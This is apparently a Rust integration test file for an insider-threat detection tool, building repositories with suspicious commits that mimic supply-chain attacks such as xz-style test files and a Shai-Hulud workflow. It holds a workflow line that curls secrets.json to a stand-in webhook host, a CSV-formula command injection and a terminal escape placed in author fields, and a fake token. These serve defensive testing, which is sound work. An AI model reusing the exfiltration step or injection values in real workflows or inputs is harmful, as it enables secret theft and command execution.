//! Insider-threat signals on real repositories built in the test: each rule fires on the
//! commit made for it (and on nothing in a repository of ordinary work), `scan` records the
//! signals once (a re-scan adds none, and scanning in two steps records exactly what one scan
//! does), `audit verify` still passes, and `devspm signals` filters, groups and escapes.
//! The rules' own unit tests (crates/devspm-posture/src/signals/) cover their thresholds.

mod common;

use std::collections::BTreeSet;
use std::process::{Command as StdCommand, Stdio};

use common::*;
use serde_json::Value;

/// Monday 2024-01-01 10:00 UTC.
const T0: i64 = 1_704_103_200;
const DAY: i64 = 86_400;

const MALLORY: Person<'static> = ("Alice Martin", "alice@attacker.example");
const ALICE_EVIL: Person<'static> = ("Alice Martin", "alice@evil.example");

/// Thresholds small enough for a history of a dozen commits.
const CONFIG: &str = "[[identity]]\nid = \"alice\"\naliases = [\"alice@example.com\", \"alice@evil.example\"]\n\n\
[signals]\nmin_history = 3\nsmoothing = 0.01\nhour_probability = 0.05\ntimezone_probability = 0.05\n\
practice_commits = 1000\nshare_window_days = 30\nlarge_deletion_lines = 5000\n";

struct World {
    sb: Sandbox,
    repo: Repo,
    config: String,
}

impl World {
    fn new(name: &str) -> World {
        let sb = Sandbox::new();
        let config = sb.path().join("devspm.toml");
        std::fs::write(&config, CONFIG).unwrap();
        let repo = sb.repo(name);
        World {
            config: config.to_str().unwrap().to_owned(),
            sb,
            repo,
        }
    }

    /// `git add -A && git commit` with its own author, committer, time and offset.
    fn commit(
        &self,
        author: Person<'_>,
        committer: Person<'_>,
        at: i64,
        tz: &str,
        message: &str,
    ) -> String {
        self.commit_with(&[], author, committer, at, tz, message)
    }

    /// [`World::commit`] with `git` options before the subcommand (`-c …`) and `commit`
    /// options after it (`-S`), split at `commit`.
    fn commit_with(
        &self,
        args: &[&str],
        author: Person<'_>,
        committer: Person<'_>,
        at: i64,
        tz: &str,
        message: &str,
    ) -> String {
        self.repo.git(&["add", "-A"]);
        let date = format!("{at} {tz}");
        let (before, after) = match args.iter().position(|a| *a == "commit") {
            Some(i) => (&args[..i], &args[i + 1..]),
            None => (args, &[][..]),
        };
        let mut cmd = StdCommand::new("git");
        isolate(&mut cmd, &self.sb.home());
        let out = cmd
            .current_dir(&self.repo.path)
            .args(before)
            .args(["commit", "-q", "--allow-empty", "-m", message])
            .args(after)
            .env("GNUPGHOME", self.sb.path().join("g"))
            .env("GIT_AUTHOR_NAME", author.0)
            .env("GIT_AUTHOR_EMAIL", author.1)
            .env("GIT_COMMITTER_NAME", committer.0)
            .env("GIT_COMMITTER_EMAIL", committer.1)
            .env("GIT_AUTHOR_DATE", &date)
            .env("GIT_COMMITTER_DATE", &date)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        self.repo.head()
    }

    fn run(&self, args: &[&str]) -> Run {
        let mut all = vec!["--config", self.config.as_str()];
        all.extend_from_slice(args);
        self.sb.run(&all)
    }

    fn scan(&self) -> Value {
        let run = self.run(&["--format", "json", "scan", self.repo.path.to_str().unwrap()]);
        run.assert_code(0);
        run.json()
    }

    /// Every recorded signal: (rule, severity, first commit or event), from `--all` JSON.
    fn signals(&self) -> Vec<(String, String, String)> {
        let v = self.run(&["--format", "json", "signals", "--all"]).json();
        let mut out = Vec::new();
        for g in v["groups"].as_array().unwrap() {
            for s in g["signals"].as_array().unwrap() {
                let evidence = s["commits"][0]
                    .as_str()
                    .map(str::to_owned)
                    .unwrap_or_else(|| s["seqs"][0].to_string());
                out.push((
                    s["rule"].as_str().unwrap().to_owned(),
                    s["severity"].as_str().unwrap().to_owned(),
                    evidence,
                ));
            }
        }
        out.sort();
        out
    }

    /// The keys of the recorded signals, without the repository id (which follows from the
    /// repository's path).
    fn signal_keys(&self) -> BTreeSet<String> {
        let conn = self.sb.conn();
        let mut stmt = conn
            .prepare("SELECT key FROM events WHERE kind = 'signal'")
            .unwrap();
        stmt.query_map([], |r| r.get::<_, String>(0))
            .unwrap()
            .map(|k| {
                let k = k.unwrap();
                let parts: Vec<&str> = k.split('/').collect();
                format!("{}/{}/{}", parts[0], parts[1], parts[3..].join("/"))
            })
            .collect()
    }
}

/// Rewrites HEAD so that its commit carries a `gpgsig` header (the kind is read from the
/// armour; nothing is verified).
fn sign_head(w: &World) -> String {
    let r = &w.repo;
    let raw = r.git(&["cat-file", "commit", "HEAD"]);
    let (headers, message) = raw.split_once("\n\n").unwrap();
    let object = format!(
        "{headers}\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEE\n -----END PGP SIGNATURE-----\n\n{message}\n"
    );
    let out = r.git_output(
        &["hash-object", "-t", "commit", "-w", "--stdin"],
        None,
        Some(object.as_bytes()),
    );
    assert!(out.status.success());
    let id = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    r.git(&["update-ref", "HEAD", &id]);
    id
}

/// Alice's ordinary weeks: eight signed commits to `src/a.c`, weekdays at 10:00 (+0100).
fn alice_routine(w: &World) -> i64 {
    let mut at = T0;
    for i in 0..8 {
        w.repo.write("src/a.c", format!("int a = {i};\n"));
        w.commit(ALICE, ALICE, at, "+0100", &format!("a {i}"));
        sign_head(w);
        at += DAY;
        if (at - T0) / DAY % 7 == 5 {
            at += 2 * DAY;
        }
    }
    at
}

fn has(signals: &[(String, String, String)], rule: &str, severity: &str, evidence: &str) -> bool {
    signals
        .iter()
        .any(|(r, s, e)| r == rule && s == severity && e == evidence)
}

#[test]
fn each_rule_fires_on_the_commit_made_for_it() {
    let w = World::new("app");
    let r = &w.repo;
    let at = alice_routine(&w);
    // Unsigned, from Alice, who signs.
    r.write("src/a.c", "int a = 100;\n");
    let unsigned = w.commit(ALICE, ALICE, at, "+0100", "unsigned");
    // A Tuesday at 03:00 local: never her hours.
    r.write("src/a.c", "int a = 101;\n");
    w.commit(ALICE, ALICE, at + DAY - 8 * 3600, "+0100", "night");
    let night = sign_head(&w);
    // Her work committed by Carol, who never committed for her, touching the Makefile.
    r.write("Makefile", "all:\n\tcc src/a.c\n");
    let carol = w.commit(ALICE, CAROL, at + 2 * DAY, "+0100", "build");
    // Her new alias at a new domain goes straight for the release workflow.
    r.write(".github/workflows/release.yml", "on: push\n");
    let drift = w.commit(ALICE_EVIL, ALICE_EVIL, at + 3 * DAY, "+0100", "ci");
    // Her name at a domain nobody commits from, as another identity.
    r.write("src/b.c", "int b;\n");
    let lookalike = w.commit(MALLORY, MALLORY, at + 4 * DAY, "+0100", "b");
    // At +0800, seven hours from her usual offset.
    r.write("src/a.c", "int a = 102;\n");
    w.commit(ALICE, ALICE, at + 5 * DAY, "+0800", "tz");
    let tz = sign_head(&w);
    // Five weeks later Bob arrives (and soon makes most of the commits): a binary test file
    // with only a README beside it, then its update alone.
    let b = at + 35 * DAY;
    r.write("tests/files/bad.xz", b"\xfd7zXZ\x00\x00\x04payload");
    r.write("tests/files/README", "bad.xz: a corrupt file\n");
    let added = w.commit(BOB, BOB, b + 6 * DAY, "+0000", "Tests: add a test file");
    r.write("tests/files/bad.xz", b"\xfd7zXZ\x00\x00\x04other payload");
    let updated = w.commit(BOB, BOB, b + 7 * DAY, "+0000", "Tests: update a test file");
    // Bob changes the Landlock probe of CMakeLists.txt (added by Carol).
    r.write(
        "CMakeLists.txt",
        "check_include_file(linux/landlock.h HAVE_LINUX_LANDLOCK_H)\n",
    );
    w.commit(CAROL, CAROL, b + 8 * DAY, "+0000", "cmake");
    r.write(
        "CMakeLists.txt",
        "check_c_source_compiles(\"\n#include <linux/landlock.h>\n.\nint main(void) { return 0; }\n\" HAVE_LINUX_LANDLOCK)\n",
    );
    let landlock = w.commit(
        BOB,
        BOB,
        b + 9 * DAY,
        "+0000",
        "Build: fix the Landlock test",
    );
    // Bob's self-merged CI change, then a wipe of 6,000 lines he never wrote.
    r.write(".github/workflows/ci.yml", "on: push\n");
    let ci = w.commit(BOB, BOB, b + 10 * DAY, "+0000", "ci");
    r.write("vendor/big.c", "x;\n".repeat(6000));
    w.commit(CAROL, CAROL, b + 11 * DAY, "+0000", "vendor");
    std::fs::remove_file(r.path.join("vendor/big.c")).unwrap();
    let wipe = w.commit(BOB, BOB, b + 12 * DAY, "+0000", "remove vendor");
    w.scan();
    // A force-push to main.
    r.git(&["reset", "-q", "--hard", &landlock]);
    r.write("src/c.c", "int c;\n");
    let rewritten = w.commit(BOB, BOB, b + 13 * DAY, "+0000", "rewrite");
    w.scan();

    let s = w.signals();
    let expect = [
        ("signing-drift", "medium", unsigned.as_str()),
        ("unusual-hours", "low", night.as_str()),
        ("committer-change", "medium", carol.as_str()),
        ("identity-drift", "high", drift.as_str()),
        ("identity-drift", "medium", lookalike.as_str()),
        ("timezone-shift", "medium", tz.as_str()),
        ("opaque-file", "medium", added.as_str()),
        ("opaque-file", "high", updated.as_str()),
        ("build-hardening", "high", landlock.as_str()),
        ("sensitive-unreviewed", "medium", ci.as_str()),
        ("large-deletion", "medium", wipe.as_str()),
    ];
    for (rule, severity, commit) in expect {
        assert!(
            has(&s, rule, severity, commit),
            "no {severity} {rule} on {commit}: {s:#?}"
        );
    }
    assert!(
        s.iter()
            .any(|(r, sev, _)| r == "history-rewrite" && sev == "high"),
        "{s:#?}"
    );
    assert!(
        s.iter().any(|(r, _, _)| r == "contributor-takeover"),
        "{s:#?}"
    );
    // The rewrite names the new tip.
    let json = w
        .run(&["--format", "json", "signals", "--severity", "high"])
        .json();
    let rewrite = json["groups"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["rule"] == "history-rewrite")
        .unwrap();
    assert_eq!(rewrite["signals"][0]["commits"][0], rewritten.as_str());
    assert!(
        rewrite["signals"][0]["explanation"]
            .as_str()
            .unwrap()
            .starts_with("refs/heads/")
    );
    // Every listed signal is medium or above by default; low ones only with --all.
    let default = w.run(&["--format", "json", "signals"]).json();
    assert_eq!(default["min_severity"], "medium");
    assert!(default["shown"].as_u64().unwrap() < s.len() as u64);
    for g in default["groups"].as_array().unwrap() {
        assert_ne!(g["severity"], "low");
    }
    w.sb.assert_verifies();
}

#[test]
fn ordinary_work_raises_nothing() {
    let w = World::new("calm");
    let r = &w.repo;
    let mut at = alice_routine(&w);
    // More of the same, signed, at her hours; Bob's reviewed Makefile change; a test file
    // with the test code that reads it; a topic branch rewritten (never protected).
    for i in 0..3 {
        while (at - T0) / DAY % 7 >= 5 {
            at += DAY;
        }
        r.write("src/a.c", format!("int a = {};\n", 10 + i));
        w.commit(ALICE, ALICE, at, "+0100", "more");
        sign_head(&w);
        at += DAY;
    }
    r.write("Makefile", "all:\n");
    w.commit(
        BOB,
        BOB,
        at,
        "+0100",
        "build\n\nReviewed-by: Alice Martin <alice@example.com>",
    );
    r.write("tests/files/good.xz", b"\xfd7zXZ\x00\x00\x04ok");
    r.write("tests/test_files.c", "/* reads good.xz */\n");
    w.commit(BOB, BOB, at + DAY, "+0100", "Tests: a file and its test");
    r.git(&["checkout", "-q", "-b", "topic"]);
    r.write("src/t.c", "int t;\n");
    let topic = w.commit(BOB, BOB, at + 2 * DAY, "+0100", "topic");
    w.scan();
    r.git(&["commit", "-q", "--amend", "-m", "topic, amended"]);
    let _ = topic;
    w.scan();
    assert_eq!(w.signals(), Vec::<(String, String, String)>::new());
    let text = w.run(&["signals"]);
    text.assert_code(0);
    assert!(
        text.stdout.starts_with("Signals: 0 shown of 0 on record"),
        "{text:?}"
    );
}

#[test]
fn recorded_once_whatever_the_batches() {
    // One scan of the whole history …
    let once = World::new("steps");
    let build = |w: &World, upto: usize| {
        let r = &w.repo;
        let mut at = T0;
        for i in 0..upto {
            r.write("src/a.c", format!("int a = {i};\n"));
            let (who, tz) = match i {
                9 => (ALICE, "+0800"),
                11 => (ALICE_EVIL, "+0100"),
                _ => (ALICE, "+0100"),
            };
            if i == 13 {
                r.write(".github/workflows/ci.yml", "on: push\n");
            }
            w.commit(who, who, at, tz, &format!("c{i}"));
            at += DAY;
        }
    };
    build(&once, 16);
    once.scan();
    let all = once.signal_keys();
    assert!(all.len() >= 3, "{all:?}");
    // … a re-scan adds nothing …
    once.scan();
    assert_eq!(once.signal_keys(), all);
    // … and the same history scanned in two steps records the same signals.
    let steps = World::new("steps");
    build(&steps, 16);
    let tip = steps.repo.head();
    steps.repo.git(&["reset", "-q", "--hard", "HEAD~7"]);
    steps.scan();
    steps.repo.git(&["reset", "-q", "--hard", &tip]);
    steps.scan();
    assert_eq!(steps.signal_keys(), all);
    steps.sb.assert_verifies();
}

#[test]
fn listing_filters_and_escapes() {
    let w = World::new("hostile");
    let r = &w.repo;
    let at = alice_routine(&w);
    // A hostile name and e-mail (terminal escape, CSV formula) whose first commit changes CI.
    let hostile: Person<'static> = (
        "Alice Martin\u{1b}]0;pwned\u{7}",
        "=cmd|' /C calc'!A0@evil.example",
    );
    r.write(".github/workflows/x.yml", "on: push\n");
    w.commit(hostile, hostile, at, "+0100", "x");
    r.write("src/a.c", "int a = 99;\n");
    w.commit(ALICE, ALICE, at + DAY, "+0100", "unsigned");
    w.scan();
    let table = w.run(&["signals", "--all"]);
    table.assert_code(0);
    assert!(!table.stdout.contains('\u{1b}'), "{table:?}");
    assert!(!table.stdout.contains('\u{7}'));
    let csv = w.run(&["--format", "csv", "signals", "--all"]);
    csv.assert_code(0);
    assert!(csv.stdout.starts_with("seq,severity,rule,"));
    for line in csv.stdout.lines() {
        assert!(!line.contains(",=cmd"), "{line}");
        assert!(!line.contains('\u{1b}'));
    }
    assert!(csv.stdout.contains("'=cmd|"));
    // --developer by e-mail, --severity, --since, --repo.
    let alice = w
        .run(&[
            "--format",
            "json",
            "signals",
            "--all",
            "--developer",
            "alice@example.com",
        ])
        .json();
    assert!(alice["shown"].as_u64().unwrap() >= 1);
    let subjects: BTreeSet<&str> = alice["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["subject"].as_str().unwrap())
        .collect();
    assert_eq!(subjects.len(), 1, "{subjects:?}");
    let high = w
        .run(&["--format", "json", "signals", "--severity", "high"])
        .json();
    for g in high["groups"].as_array().unwrap() {
        assert_eq!(g["severity"], "high");
    }
    let future = w
        .run(&[
            "--format",
            "json",
            "signals",
            "--all",
            "--since",
            "2030-01-01",
        ])
        .json();
    assert_eq!(future["shown"], 0);
    let here = w
        .run(&[
            "--format",
            "json",
            "signals",
            "--all",
            "--repo",
            r.path.to_str().unwrap(),
        ])
        .json();
    assert_eq!(here["shown"], alice["total"]);
    w.run(&["signals", "--severity", "urgent"])
        .assert_error(&["--severity", "high, medium, low, info"]);
    w.run(&["signals", "--developer", "nobody@example.com"])
        .assert_error(&["nobody@example.com"]);
}

#[test]
fn repeated_hook_overrides() {
    let sb = Sandbox::new();
    let r = sb.repo("hooked");
    r.commit_file(ALICE, "README.md", "hello\n", "Start");
    r.git(&["config", "user.name", ALICE.0]);
    r.git(&["config", "user.email", ALICE.1]);
    sb.run(&["hook", "install", r.path.to_str().unwrap()])
        .assert_code(0);
    let made = std::cell::Cell::new(0);
    let overrides = |n: usize| -> u64 {
        for _ in 0..n {
            let i = made.get();
            made.set(i + 1);
            r.write(
                format!("deploy{i}.sh"),
                format!("TOKEN=ghp_{}{i}\n", "x7Kq9Lm2Np4Rs6Tv8Wy0Za1Bc3De5Fg7Hj9"),
            );
            r.git(&["add", "-A"]);
            let blocked = commit_with_hooks(&sb, &r, "deploy", &[]);
            assert!(!blocked.status.success(), "blocked");
            let out = commit_with_hooks(&sb, &r, "deploy", &[("DEVSPM_ALLOW", "1")]);
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        sb.scan(&r.path);
        let v = sb.run(&["--format", "json", "signals", "--all"]).json();
        v["groups"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|g| g["rule"] == "hook-overrides")
            .map(|g| g["count"].as_u64().unwrap())
            .sum()
    };
    // Two overrides are two judgements, not a habit.
    assert_eq!(overrides(2), 0);
    // The third within a month is.
    assert_eq!(overrides(1), 1);
    let v = sb.run(&["--format", "json", "signals"]).json();
    let g = &v["groups"][0];
    assert_eq!(g["rule"], "hook-overrides");
    assert_eq!(g["severity"], "medium");
    assert_eq!(g["signals"][0]["seqs"].as_array().unwrap().len(), 3);
    sb.assert_verifies();
}

/// An ed25519 key made with `ssh-keygen` in the sandbox: (private key file, the fingerprint
/// `ssh-keygen -l` prints for it).
fn ssh_key(w: &World, name: &str) -> (String, String) {
    let path = w.sb.path().join(name);
    let out = StdCommand::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
        .arg(&path)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let listed = StdCommand::new("ssh-keygen")
        .arg("-l")
        .arg("-f")
        .arg(path.with_extension("pub"))
        .output()
        .unwrap();
    let listed = String::from_utf8(listed.stdout).unwrap();
    let fingerprint = listed.split_whitespace().nth(1).unwrap().to_owned();
    assert!(fingerprint.starts_with("SHA256:"), "{listed}");
    (path.to_str().unwrap().to_owned(), fingerprint)
}

/// The `signing_key` of a commit's `commit_recorded` event (`None` when absent from the JSON).
fn recorded_key(w: &World, sha: &str) -> Option<String> {
    let payload: String =
        w.sb.conn()
            .query_row(
                "SELECT payload FROM events WHERE kind = 'commit_recorded' AND key LIKE ?1",
                [format!("commit/%/{sha}")],
                |r| r.get(0),
            )
            .unwrap();
    let v: Value = serde_json::from_str(&payload).unwrap();
    v.get("signing_key").map(|k| k.as_str().unwrap().to_owned())
}

#[test]
fn a_new_ssh_signing_key_is_raised_with_old_and_new_keys() {
    let w = World::new("ssh");
    let (old, old_fp) = ssh_key(&w, "old");
    let (new, new_fp) = ssh_key(&w, "new");
    let signed = |key: &str, at: i64, message: &str| {
        w.repo.write("src/a.c", format!("int a; /* {message} */\n"));
        w.commit_with(
            &[
                "-c",
                "gpg.format=ssh",
                "-c",
                &format!("user.signingkey={key}"),
                "commit",
                "-S",
            ],
            ALICE,
            ALICE,
            at,
            "+0100",
            message,
        )
    };
    let first = signed(&old, T0, "first");
    signed(&old, T0 + DAY, "second");
    // The same key again: nothing new.
    let same = signed(&old, T0 + 2 * DAY, "same key");
    w.repo.write("src/a.c", "int a = 0;\n");
    let unsigned = w.commit(ALICE, ALICE, T0 + 3 * DAY, "+0100", "unsigned");
    let other = signed(&new, T0 + 4 * DAY, "other key");
    w.scan();
    // Ingest records the key each signature names, as `ssh-keygen -l` prints it, and nothing
    // for an unsigned commit.
    assert_eq!(recorded_key(&w, &first).as_deref(), Some(old_fp.as_str()));
    assert_eq!(recorded_key(&w, &other).as_deref(), Some(new_fp.as_str()));
    assert_eq!(recorded_key(&w, &unsigned), None);
    let v = w.run(&["--format", "json", "signals", "--all"]).json();
    let drift: Vec<&Value> = v["groups"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|g| g["signals"].as_array().unwrap())
        .filter(|s| s["rule"] == "signing-drift")
        .collect();
    // Two: the unsigned commit (medium, her three earlier commits were signed) and the new
    // key (low); the commit signed again with the old key raises nothing.
    assert_eq!(drift.len(), 2, "{drift:?}");
    let unsigned_signal = drift.iter().find(|s| s["severity"] == "medium").unwrap();
    assert_eq!(unsigned_signal["commits"][0], unsigned.as_str());
    let s = drift.iter().find(|s| s["severity"] == "low").unwrap();
    assert_eq!(s["commits"][0], other.as_str());
    assert!(drift.iter().all(|s| s["commits"][0] != same.as_str()));
    let explanation = s["explanation"].as_str().unwrap();
    assert!(explanation.starts_with("New signing key"), "{explanation}");
    assert!(explanation.contains(&new_fp), "{explanation}");
    assert!(
        s["baseline"]
            .as_str()
            .unwrap()
            .contains(&format!("{old_fp} (3 commits)")),
        "{s}"
    );
    // `posture explain` shows the key behind each signed commit, as unverified.
    let explained = w
        .run(&[
            "--format",
            "json",
            "posture",
            "explain",
            "alice@example.com",
        ])
        .json();
    let text = explained.to_string();
    assert!(
        text.contains(&format!("signed (ssh, key {new_fp}, unverified)")),
        "{text}"
    );
    w.sb.assert_verifies();
}

#[test]
fn an_openpgp_signature_records_its_issuer_fingerprint() {
    let w = World::new("gpg");
    let home = w.sb.path().join("g");
    std::fs::create_dir_all(&home).unwrap();
    let gpg = |args: &[&str]| {
        let out = StdCommand::new("gpg")
            .env("GNUPGHOME", &home)
            .args([
                "--batch",
                "--quiet",
                "--pinentry-mode",
                "loopback",
                "--passphrase",
                "",
            ])
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    gpg(&[
        "--quick-generate-key",
        "Alice Martin <alice@example.com>",
        "ed25519",
        "sign",
        "never",
    ]);
    let listed = gpg(&["--with-colons", "--list-secret-keys"]);
    let fingerprint = listed
        .lines()
        .find_map(|l| l.strip_prefix("fpr:::::::::"))
        .map(|f| f.trim_end_matches(':').to_owned())
        .unwrap();
    w.repo.write("src/a.c", "int a;\n");
    let sha = w.commit_with(
        &[
            "-c",
            &format!("user.signingkey={fingerprint}"),
            "commit",
            "-S",
        ],
        ALICE,
        ALICE,
        T0,
        "+0100",
        "signed with gpg",
    );
    w.scan();
    assert_eq!(
        recorded_key(&w, &sha).as_deref(),
        Some(fingerprint.as_str())
    );
    let _ = StdCommand::new("gpgconf")
        .env("GNUPGHOME", &home)
        .args(["--kill", "gpg-agent"])
        .output();
}

/// The Shai-Hulud pattern: one workflow file pushed to three repositories at once. The third
/// scan raises `workflow-spread` about whoever pushed it (with the three commits as evidence),
/// re-scans record nothing more, and `tools list` says the same under its table.
#[test]
fn one_workflow_pushed_to_three_repositories_at_once() {
    const WORKFLOW: &str = ".github/workflows/shai-hulud-workflow.yml";
    let sb = Sandbox::new();
    let body = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -d @secrets.json https://webhook.example/x\n";
    let repos: Vec<Repo> = ["api", "web", "cli"]
        .iter()
        .map(|name| {
            let r = sb.repo(name);
            r.commit_file(ALICE, "README.md", "hello\n", "Start");
            r.commit_file(BOB, WORKFLOW, body, "Add workflow");
            r
        })
        .collect();
    let spread = |sb: &Sandbox| -> Vec<Value> {
        let v = sb.run(&["--format", "json", "signals", "--all"]).json();
        v["groups"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|g| g["rule"] == "workflow-spread")
            .flat_map(|g| g["signals"].as_array().unwrap().clone())
            .collect()
    };
    sb.scan(&repos[0].path);
    sb.scan(&repos[1].path);
    assert!(spread(&sb).is_empty(), "two repositories are not a spread");
    let third = sb.scan(&repos[2].path);
    assert!(third["signals"]["signals_appended"].as_u64().unwrap() >= 1);
    let found = spread(&sb);
    assert_eq!(found.len(), 1, "{found:?}");
    let s = &found[0];
    assert_eq!(s["severity"], "high");
    assert_eq!(s["paths"][0], WORKFLOW);
    let mut commits: Vec<String> = s["commits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap().to_owned())
        .collect();
    commits.sort();
    let mut heads: Vec<String> = repos.iter().map(Repo::head).collect();
    heads.sort();
    assert_eq!(commits, heads);
    assert!(
        s["explanation"]
            .as_str()
            .unwrap()
            .contains("was introduced in 3 repositories within 0 h"),
        "{s}"
    );
    // The subject is the identity that pushed it (Bob), not a repository.
    let shown = sb.run(&["signals"]);
    shown.assert_code(0);
    assert!(shown.stdout.contains("workflow-spread"), "{}", shown.stdout);
    assert!(shown.stdout.contains("Bob Stone"), "{}", shown.stdout);
    // Re-scans record nothing twice.
    for r in &repos {
        sb.scan(&r.path);
    }
    assert_eq!(spread(&sb).len(), 1);
    let tools = sb.run(&["tools", "list"]);
    tools.assert_code(0);
    assert!(
        tools
            .stdout
            .contains(&format!("{WORKFLOW} was introduced in 3 repositories")),
        "{}",
        tools.stdout
    );
    sb.assert_verifies();
}
